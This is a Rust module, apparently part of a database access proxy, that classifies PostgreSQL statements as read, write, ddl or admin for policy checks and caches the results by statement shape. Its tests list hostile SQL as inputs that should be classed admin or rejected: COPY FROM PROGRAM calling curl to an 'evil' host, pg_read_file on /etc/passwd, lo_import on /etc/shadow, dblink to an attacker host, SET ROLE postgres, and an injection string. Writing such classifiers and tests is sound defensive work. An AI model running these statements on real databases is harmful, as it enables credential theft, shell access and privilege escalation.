//! What a SQL statement does, decided from its syntax tree (sqlparser, PostgreSQL dialect):
//! read, write, ddl or admin, and the tables it touches. Anything that does not parse is an
//! error (the caller denies it): a statement is never guessed at. Anything that parses but is
//! not known to be harmless is `admin`, the class policies grant least.

use std::{collections::BTreeSet, fmt, ops::ControlFlow};

use super::copy::CopyFormat;

use sqlparser::{
    ast::{
        CopyLegacyCsvOption, CopyLegacyOption, CopyOption, CopySource, CopyTarget, Expr,
        ObjectName, Set, SetExpr, Statement, visit_expressions, visit_relations, visit_statements,
    },
    dialect::PostgreSqlDialect,
    parser::Parser,
};

/// Ordered from least to most powerful: a statement's class is the highest of its parts.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash)]
pub enum SqlClass {
    Read,
    Write,
    Ddl,
    Admin,
}

impl SqlClass {
    pub fn as_str(self) -> &'static str {
        match self {
            SqlClass::Read => "read",
            SqlClass::Write => "write",
            SqlClass::Ddl => "ddl",
            SqlClass::Admin => "admin",
        }
    }

    /// The Cedar action deciding statements of this class.
    pub fn action(self) -> &'static str {
        match self {
            SqlClass::Read => "sql:read",
            SqlClass::Write => "sql:write",
            SqlClass::Ddl => "sql:ddl",
            SqlClass::Admin => "sql:admin",
        }
    }
}

impl fmt::Display for SqlClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(self.as_str())
    }
}

/// One statement of a query string.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Classified {
    pub class: SqlClass,
    /// Relations named, as written (lower-cased unless quoted).
    pub tables: BTreeSet<String>,
    /// Why the class is higher than the statement kind alone says, if it is.
    pub because: Option<String>,
    /// The statement: as the client sent it when the string holds just this one (without
    /// surrounding white space and final `;`), else re-rendered from the tree.
    pub text: String,
    /// For `COPY … TO STDOUT`: how its rows are written and how to learn their columns.
    pub copy_out: Option<CopyOut>,
}

/// The rows a `COPY … TO STDOUT` sends.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CopyOut {
    /// A query returning the same columns, for the catalog to describe.
    pub describe: String,
    pub format: CopyFormat,
}

#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("the statement cannot be parsed, so it is not allowed: {0}")]
pub struct Unparseable(pub String);

/// Functions that act although they are called from a SELECT.
fn function_class(name: &str) -> Option<SqlClass> {
    let name = name.rsplit('.').next().unwrap_or(name).trim_matches('"');
    let lower = name.to_ascii_lowercase();
    Some(match lower.as_str() {
        "nextval"
        | "setval"
        | "set_config"
        | "lo_create"
        | "lo_creat"
        | "lo_unlink"
        | "lo_put"
        | "lo_from_bytea"
        | "lo_truncate"
        | "pg_advisory_lock"
        | "pg_advisory_xact_lock"
        | "pg_notify" => SqlClass::Write,
        "pg_read_file"
        | "pg_read_binary_file"
        | "pg_ls_dir"
        | "pg_stat_file"
        | "lo_import"
        | "lo_export"
        | "pg_terminate_backend"
        | "pg_cancel_backend"
        | "pg_reload_conf"
        | "pg_rotate_logfile"
        | "pg_switch_wal"
        | "pg_create_restore_point"
        | "pg_promote"
        | "pg_file_write"
        | "pg_logdir_ls"
        | "query_to_xml"
        | "pg_create_logical_replication_slot"
        | "pg_create_physical_replication_slot"
        | "pg_drop_replication_slot" => SqlClass::Admin,
        _ if lower.starts_with("dblink") || lower.starts_with("pg_ls_") => SqlClass::Admin,
        _ => return None,
    })
}

/// The class of one statement node, ignoring nested statements and function calls.
fn statement_class(stmt: &Statement) -> SqlClass {
    use SqlClass::*;
    match stmt {
        Statement::Query(q) => match q.body.as_ref() {
            SetExpr::Select(s) if s.into.is_some() => Ddl,
            _ => Read,
        },
        Statement::Insert(_)
        | Statement::Update(_)
        | Statement::Delete(_)
        | Statement::Merge(_) => Write,
        Statement::Copy { to, target, .. } => match target {
            // The rows come to the client, masked like any result.
            CopyTarget::Stdin | CopyTarget::Stdout if *to => Read,
            CopyTarget::Stdin | CopyTarget::Stdout => Write,
            // Server-side files and programs: the database host's file system and shell.
            CopyTarget::File { .. } | CopyTarget::Program { .. } => Admin,
        },
        Statement::Explain { .. }
        | Statement::ExplainTable { .. }
        | Statement::StartTransaction { .. }
        | Statement::Commit { .. }
        | Statement::Rollback { .. }
        | Statement::Savepoint { .. }
        | Statement::ReleaseSavepoint { .. }
        | Statement::ShowVariable { .. }
        | Statement::ShowVariables { .. }
        | Statement::Declare { .. }
        | Statement::Fetch { .. }
        | Statement::Close { .. }
        | Statement::Discard { .. }
        | Statement::Deallocate { .. }
        | Statement::Prepare { .. } => Read,
        Statement::Set(set) => match set {
            Set::SetRole { .. } | Set::SetSessionAuthorization(_) => Admin,
            Set::SingleAssignment { variable, .. } => {
                let name = variable.to_string().to_ascii_lowercase();
                if name.contains("role") || name.contains("session_authorization") {
                    Admin
                } else {
                    Read
                }
            }
            _ => Read,
        },
        Statement::Truncate(_)
        | Statement::CreateTable(_)
        | Statement::CreateView(_)
        | Statement::CreateIndex(_)
        | Statement::CreateSequence { .. }
        | Statement::CreateType { .. }
        | Statement::CreateDomain(_)
        | Statement::CreateSchema { .. }
        | Statement::AlterTable(_)
        | Statement::AlterIndex { .. }
        | Statement::AlterView { .. }
        | Statement::AlterType(_)
        | Statement::Drop { .. }
        | Statement::Comment { .. }
        | Statement::RenameTable(_) => Ddl,
        // Roles, grants, extensions, functions (code), server settings, anything else.
        _ => Admin,
    }
}

/// Splits and classifies a query string (simple query protocol strings may hold several
/// statements).
pub fn classify(sql: &str) -> Result<Vec<Classified>, Unparseable> {
    let statements =
        Parser::parse_sql(&PostgreSqlDialect {}, sql).map_err(|e| Unparseable(e.to_string()))?;
    let mut classified: Vec<Classified> = statements.iter().map(classify_statement).collect();
    if let [one] = classified.as_mut_slice() {
        one.text = as_sent(sql).to_owned();
    }
    Ok(classified)
}

fn as_sent(sql: &str) -> &str {
    sql.trim()
        .trim_end_matches(|c: char| c == ';' || c.is_whitespace())
}

/// Statements a session has classified, by [`shape`]: a client that runs the same statement
/// with other numbers (pgbench, an agent paging through ids) is classified once.
#[derive(Default)]
pub struct Classifier {
    known: std::collections::HashMap<String, Classified>,
}

/// Shapes a session remembers; past this it starts again (a client sending ever new
/// statements gains nothing from the cache, and must not grow it without bound).
const SHAPES: usize = 256;

impl Classifier {
    /// [`classify`], remembering single statements by shape.
    pub fn classify(&mut self, sql: &str) -> Result<Vec<Classified>, Unparseable> {
        let Some(key) = shape(sql) else {
            return classify(sql);
        };
        if let Some(known) = self.known.get(&key) {
            return Ok(vec![Classified {
                class: known.class,
                tables: known.tables.clone(),
                because: known.because.clone(),
                text: as_sent(sql).to_owned(),
                copy_out: None,
            }]);
        }
        let classified = classify(sql)?;
        if let [one] = classified.as_slice()
            && one.copy_out.is_none()
        {
            if self.known.len() >= SHAPES {
                self.known.clear();
            }
            // The text is each statement's own.
            self.known.insert(
                key,
                Classified {
                    text: String::new(),
                    ..one.clone()
                },
            );
        }
        Ok(classified)
    }
}

/// The statement with the digits of its numeric literals replaced by `0`, or `None` when it
/// holds anything whose reading takes more than this scanner knows (quotes of any kind,
/// dollar quoting, comments, backslashes, numbers with a point, exponent or suffix, or longer
/// than 18 digits).
///
/// Two statements with one shape differ only in the values of integer literals of the same
/// length, standing where a token starts: the parser reads both the same way (the values
/// fit any integer it parses them into), and no class, table or function name depends on a
/// value. Hand-written because the point is to skip the tokenizer: sqlparser's costs a third
/// of a parse.
pub fn shape(sql: &str) -> Option<String> {
    let bytes = sql.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    let ident = |b: u8| b.is_ascii_alphanumeric() || b == b'_' || b == b'$' || b >= 0x80;
    while i < bytes.len() {
        let b = bytes[i];
        match b {
            b'\'' | b'"' | b'\\' | b'`' => return None,
            b'-' if bytes.get(i + 1) == Some(&b'-') => return None,
            b'/' if bytes.get(i + 1) == Some(&b'*') => return None,
            b'$' => {
                // `$1`, a parameter, stays as it is; anything else starting with `$` is dollar
                // quoting.
                let digits = bytes[i + 1..]
                    .iter()
                    .take_while(|b| b.is_ascii_digit())
                    .count();
                if digits == 0 || bytes.get(i + 1 + digits).is_some_and(|&b| ident(b)) {
                    return None;
                }
                out.extend_from_slice(&bytes[i..=i + digits]);
                i += 1 + digits;
            }
            b'0'..=b'9' => {
                let digits = bytes[i..].iter().take_while(|b| b.is_ascii_digit()).count();
                let next = bytes.get(i + digits).copied();
                if digits > 18 || next.is_some_and(|n| ident(n) || n == b'.') {
                    return None;
                }
                out.resize(out.len() + digits, b'0');
                i += digits;
            }
            _ if ident(b) => {
                // A word, digits and all (`t1` is not `t2`).
                let len = bytes[i..].iter().take_while(|&&b| ident(b)).count();
                out.extend_from_slice(&bytes[i..i + len]);
                i += len;
            }
            b'.' if bytes.get(i + 1).is_some_and(u8::is_ascii_digit) => return None,
            _ => {
                out.push(b);
                i += 1;
            }
        }
    }
    // Only ASCII was replaced, so the bytes are still the UTF-8 they were.
    String::from_utf8(out).ok()
}

fn classify_statement(stmt: &Statement) -> Classified {
    let mut class = SqlClass::Read;
    let mut because = None;
    let _ = visit_statements(stmt, |s| {
        class = class.max(statement_class(s));
        ControlFlow::<()>::Continue(())
    });
    let _ = visit_expressions(stmt, |e| {
        if let Expr::Function(f) = e
            && let Some(fc) = function_class(&f.name.to_string())
            && fc > class
        {
            class = fc;
            because = Some(format!("calls {}()", f.name));
        }
        ControlFlow::<()>::Continue(())
    });
    let mut tables = BTreeSet::new();
    let _ = visit_relations(stmt, |name: &ObjectName| {
        // Table functions (`FROM dblink(...)`, `FROM pg_ls_dir(...)`) are relations here.
        if let Some(fc) = function_class(&name.to_string())
            && fc > class
        {
            class = fc;
            because = Some(format!("calls {name}()"));
        }
        tables.insert(name.to_string());
        ControlFlow::<()>::Continue(())
    });
    Classified {
        class,
        tables,
        because,
        text: stmt.to_string(),
        copy_out: copy_out(stmt),
    }
}

fn copy_out(stmt: &Statement) -> Option<CopyOut> {
    let Statement::Copy {
        source,
        to: true,
        target: CopyTarget::Stdout,
        options,
        legacy_options,
        ..
    } = stmt
    else {
        return None;
    };
    let describe = match source {
        CopySource::Table {
            table_name,
            columns,
        } if columns.is_empty() => format!("SELECT * FROM {table_name}"),
        CopySource::Table {
            table_name,
            columns,
        } => format!(
            "SELECT {} FROM {table_name}",
            columns
                .iter()
                .map(ToString::to_string)
                .collect::<Vec<_>>()
                .join(", ")
        ),
        CopySource::Query(q) => q.to_string(),
    };
    Some(CopyOut {
        describe,
        format: copy_format(options, legacy_options),
    })
}

/// The output format the options ask for; anything enforcer cannot read back exactly is
/// unmaskable.
fn copy_format(options: &[CopyOption], legacy: &[CopyLegacyOption]) -> CopyFormat {
    let mut csv = false;
    let mut delimiter = None;
    let mut null = None;
    let mut quote = b'"';
    let mut escape = None;
    let mut header = false;
    let byte = |c: char, what: &str| -> Result<u8, String> {
        u8::try_from(c)
            .ok()
            .filter(|b| b.is_ascii() && *b != b'\n' && *b != b'\r')
            .ok_or_else(|| format!("COPY {what} {c:?} is not a plain one-byte character"))
    };
    let mut apply = || -> Result<(), String> {
        for option in options {
            match option {
                CopyOption::Format(f) => match f.value.to_ascii_lowercase().as_str() {
                    "text" => csv = false,
                    "csv" => csv = true,
                    other => {
                        return Err(format!(
                            "COPY output in {other} format cannot be masked; use text or csv"
                        ));
                    }
                },
                CopyOption::Delimiter(c) => delimiter = Some(byte(*c, "DELIMITER")?),
                CopyOption::Null(n) => null = Some(n.clone()),
                CopyOption::Header(h) => header = *h,
                CopyOption::Quote(c) => quote = byte(*c, "QUOTE")?,
                CopyOption::Escape(c) => escape = Some(byte(*c, "ESCAPE")?),
                CopyOption::Encoding(e)
                    if !matches!(
                        e.to_ascii_lowercase().replace(['-', '_'], "").as_str(),
                        "utf8"
                    ) =>
                {
                    return Err(format!("COPY output in encoding {e} cannot be masked"));
                }
                CopyOption::Encoding(_)
                | CopyOption::ForceQuote(_)
                | CopyOption::ForceNotNull(_)
                | CopyOption::ForceNull(_)
                | CopyOption::Freeze(_) => {}
            }
        }
        for option in legacy {
            match option {
                CopyLegacyOption::Binary => {
                    return Err(
                        "COPY output in binary format cannot be masked; use text or csv".into(),
                    );
                }
                CopyLegacyOption::Delimiter(c) => delimiter = Some(byte(*c, "DELIMITER")?),
                CopyLegacyOption::Null(n) => null = Some(n.clone()),
                CopyLegacyOption::Csv(csv_options) => {
                    csv = true;
                    for o in csv_options {
                        match o {
                            CopyLegacyCsvOption::Header => header = true,
                            CopyLegacyCsvOption::Quote(c) => quote = byte(*c, "QUOTE")?,
                            CopyLegacyCsvOption::Escape(c) => escape = Some(byte(*c, "ESCAPE")?),
                            CopyLegacyCsvOption::ForceQuote(_)
                            | CopyLegacyCsvOption::ForceNotNull(_) => {}
                        }
                    }
                }
                other => return Err(format!("COPY option {other} cannot be masked")),
            }
        }
        Ok(())
    };
    if let Err(why) = apply() {
        return CopyFormat::Unmaskable(why);
    }
    if csv {
        CopyFormat::Csv {
            delimiter: delimiter.unwrap_or(b','),
            null: null.unwrap_or_default(),
            quote,
            escape: escape.unwrap_or(quote),
            header,
        }
    } else {
        CopyFormat::Text {
            delimiter: delimiter.unwrap_or(b'\t'),
            null: null.unwrap_or_else(|| "\\N".into()),
            header,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn class(sql: &str) -> SqlClass {
        let all = classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}"));
        assert_eq!(all.len(), 1, "{sql}");
        all[0].class
    }

    #[test]
    fn statements_fall_into_their_class() {
        use SqlClass::*;
        for (sql, want) in [
            ("SELECT id, email FROM customers WHERE id = $1", Read),
            ("select 1", Read),
            ("BEGIN", Read),
            ("COMMIT", Read),
            ("SET statement_timeout = 5000", Read),
            ("EXPLAIN SELECT * FROM t", Read),
            ("COPY customers TO STDOUT", Read),
            ("INSERT INTO orders VALUES (1)", Write),
            ("UPDATE orders SET total = 0", Write),
            ("DELETE FROM customers WHERE id = 1", Write),
            ("COPY customers FROM STDIN", Write),
            (
                "WITH gone AS (DELETE FROM t RETURNING *) SELECT * FROM gone",
                Write,
            ),
            ("SELECT nextval('orders_id_seq')", Write),
            ("SELECT set_config('role', 'postgres', false)", Write),
            ("CREATE TABLE x (a int)", Ddl),
            ("DROP TABLE customers", Ddl),
            ("TRUNCATE customers", Ddl),
            ("ALTER TABLE t ADD COLUMN b int", Ddl),
            ("SELECT * INTO copy_of FROM customers", Ddl),
            ("GRANT ALL ON customers TO agent", Admin),
            ("CREATE ROLE boss SUPERUSER", Admin),
            ("SET ROLE postgres", Admin),
            ("SET SESSION AUTHORIZATION postgres", Admin),
            ("COPY customers TO '/tmp/x'", Admin),
            ("COPY customers FROM PROGRAM 'curl evil'", Admin),
            ("SELECT pg_read_file('/etc/passwd')", Admin),
            ("SELECT lo_import('/etc/shadow')", Admin),
            (
                "SELECT * FROM dblink('host=evil', 'select 1') AS t(a int)",
                Admin,
            ),
            ("CREATE EXTENSION dblink", Admin),
            ("VACUUM customers", Admin),
            (
                "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE sql",
                Admin,
            ),
        ] {
            assert_eq!(class(sql), want, "{sql}");
        }
    }

    #[test]
    fn tables_and_multiple_statements() {
        let all = classify(
            "SELECT * FROM public.customers c JOIN orders o ON o.c = c.id; DELETE FROM orders",
        )
        .expect("parses");
        assert_eq!(all.len(), 2);
        assert_eq!(
            all[0].tables.iter().map(String::as_str).collect::<Vec<_>>(),
            ["orders", "public.customers"]
        );
        assert_eq!(all[1].class, SqlClass::Write);
        assert_eq!(
            classify("SELECT pg_read_file('x')").expect("parses")[0]
                .because
                .as_deref(),
            Some("calls pg_read_file()")
        );
    }

    #[test]
    fn copy_out_says_how_to_read_its_rows() {
        let copy = |sql: &str| {
            classify(sql).expect("parses")[0]
                .copy_out
                .clone()
                .expect("a COPY TO STDOUT")
        };
        let plain = copy("COPY customers TO STDOUT");
        assert_eq!(plain.describe, "SELECT * FROM customers");
        assert_eq!(
            plain.format,
            CopyFormat::Text {
                delimiter: b'\t',
                null: "\\N".into(),
                header: false
            }
        );
        assert_eq!(
            copy("COPY customers (id, email) TO STDOUT").describe,
            "SELECT id, email FROM customers"
        );
        assert_eq!(
            copy("COPY (SELECT email FROM customers WHERE id = 1) TO STDOUT").describe,
            "SELECT email FROM customers WHERE id = 1"
        );
        assert_eq!(
            copy("COPY customers TO STDOUT WITH (FORMAT csv, HEADER, DELIMITER ';', NULL 'x')")
                .format,
            CopyFormat::Csv {
                delimiter: b';',
                null: "x".into(),
                quote: b'"',
                escape: b'"',
                header: true
            }
        );
        assert!(matches!(
            copy("COPY customers TO STDOUT WITH (FORMAT binary)").format,
            CopyFormat::Unmaskable(_)
        ));
        assert!(matches!(
            copy("COPY customers TO STDOUT BINARY").format,
            CopyFormat::Unmaskable(_)
        ));
        assert!(
            classify("COPY customers FROM STDIN").expect("parses")[0]
                .copy_out
                .is_none()
        );
    }

    #[test]
    fn garbage_is_unparseable() {
        for sql in ["SELEC 1", "DELETE FROM", "'; DROP TABLE x; --", "\u{0}"] {
            assert!(classify(sql).is_err(), "{sql:?}");
        }
    }

    #[test]
    fn one_statement_is_recorded_as_sent() {
        let one = classify("  delete from t where id=1 ;; \n").expect("parses");
        assert_eq!(one[0].text, "delete from t where id=1");
        let two = classify("select 1; delete from t").expect("parses");
        assert_eq!(two[1].text, "DELETE FROM t");
    }

    #[test]
    fn shapes_hide_integer_values_only() {
        let same = |a: &str, b: &str| {
            assert!(shape(a).is_some(), "{a}");
            assert_eq!(shape(a), shape(b), "{a} / {b}");
        };
        let differ = |a: &str, b: &str| assert_ne!(shape(a), shape(b), "{a} / {b}");
        same(
            "SELECT abalance FROM pgbench_accounts WHERE aid = 123456;",
            "SELECT abalance FROM pgbench_accounts WHERE aid = 654321;",
        );
        same(
            "SELECT * FROM t WHERE id = $1 LIMIT 10",
            "SELECT * FROM t WHERE id = $1 LIMIT 99",
        );
        differ("SELECT 1", "SELECT 10");
        differ("SELECT * FROM t1", "SELECT * FROM t2");
        differ(
            "SELECT * FROM t WHERE a = $1",
            "SELECT * FROM t WHERE a = $2",
        );
        for unread in [
            "SELECT 'x1'",
            "SELECT \"t1\".a FROM \"t1\"",
            "SELECT 1 -- 2",
            "SELECT /* 1 */ 2",
            "SELECT $$1$$",
            "SELECT $a$ 1 $a$",
            "SELECT 1.5",
            "SELECT .5",
            "SELECT 1e5",
            "SELECT 0x1F",
            "SELECT 1_000",
            "SELECT 123abc",
            "SELECT E'\\x41'",
            "SELECT 1234567890123456789",
        ] {
            assert_eq!(shape(unread), None, "{unread}");
        }
    }

    #[test]
    fn the_classifier_answers_a_known_shape_as_classify_would() {
        let mut classifier = Classifier::default();
        for sql in [
            "DELETE FROM customers WHERE id = 1",
            "DELETE FROM customers WHERE id = 7",
            "SELECT nextval(1)",
            "SELECT nextval(2)",
            "SELECT 1; SELECT 2",
            "SELECT 3; SELECT 4",
        ] {
            assert_eq!(classifier.classify(sql), classify(sql), "{sql}");
        }
        assert_eq!(
            classifier
                .classify("DELETE FROM customers WHERE id = 9")
                .expect("parses")[0]
                .text,
            "DELETE FROM customers WHERE id = 9"
        );
    }

    proptest::proptest! {
        /// Statements of one shape are classified alike: whatever integers fill a statement,
        /// the cached answer is the parser's answer.
        #[test]
        fn a_shape_stands_for_its_statements(
            template in "(SELECT|INSERT INTO|DELETE FROM|UPDATE|FROM|WHERE|VALUES|SET|LIMIT|OFFSET|nextval|pg_read_file|t[0-9]|[a-z_]{1,5}|[(),;*=<>+ -]|[ ]N[ ]|\\$[0-9])*",
            fills in proptest::collection::vec((1u64..1_000_000_000, 1u64..1_000_000_000), 0..8),
        ) {
            let mut a = template.clone();
            let mut b = template.clone();
            for (x, y) in &fills {
                // Same length, different value.
                let (x, y) = (x.to_string(), y.to_string());
                let y = format!("{:0>width$}", y, width = x.len());
                let y = &y[y.len() - x.len()..];
                a = a.replacen(" N ", &format!(" {x} "), 1);
                b = b.replacen(" N ", &format!(" {y} "), 1);
            }
            if let (Some(sa), Some(sb)) = (shape(&a), shape(&b)) {
                proptest::prop_assert_eq!(&sa, &sb);
                let (ca, cb) = (classify(&a), classify(&b));
                proptest::prop_assert_eq!(ca.is_ok(), cb.is_ok(), "{} / {}", a, b);
                if let (Ok(ca), Ok(cb)) = (ca, cb) {
                    proptest::prop_assert_eq!(ca.len(), cb.len());
                    for (x, y) in ca.iter().zip(&cb) {
                        proptest::prop_assert_eq!(x.class, y.class);
                        proptest::prop_assert_eq!(&x.tables, &y.tables);
                        proptest::prop_assert_eq!(&x.because, &y.because);
                    }
                }
            }
        }

        #[test]
        fn shape_never_panics(sql in "\\PC{0,120}") {
            let _ = shape(&sql);
        }

        #[test]
        fn classify_never_panics(sql in "\\PC{0,120}") {
            let _ = classify(&sql);
        }

        #[test]
        fn sql_like_text_never_panics(sql in "(SELECT|INSERT|DELETE|FROM|WHERE|INTO|VALUES|WITH|AS|COPY|TO|SET|ROLE|[a-z_]{1,6}|[(),;*=' $0-9.])*") {
            let _ = classify(&sql);
        }
    }
}
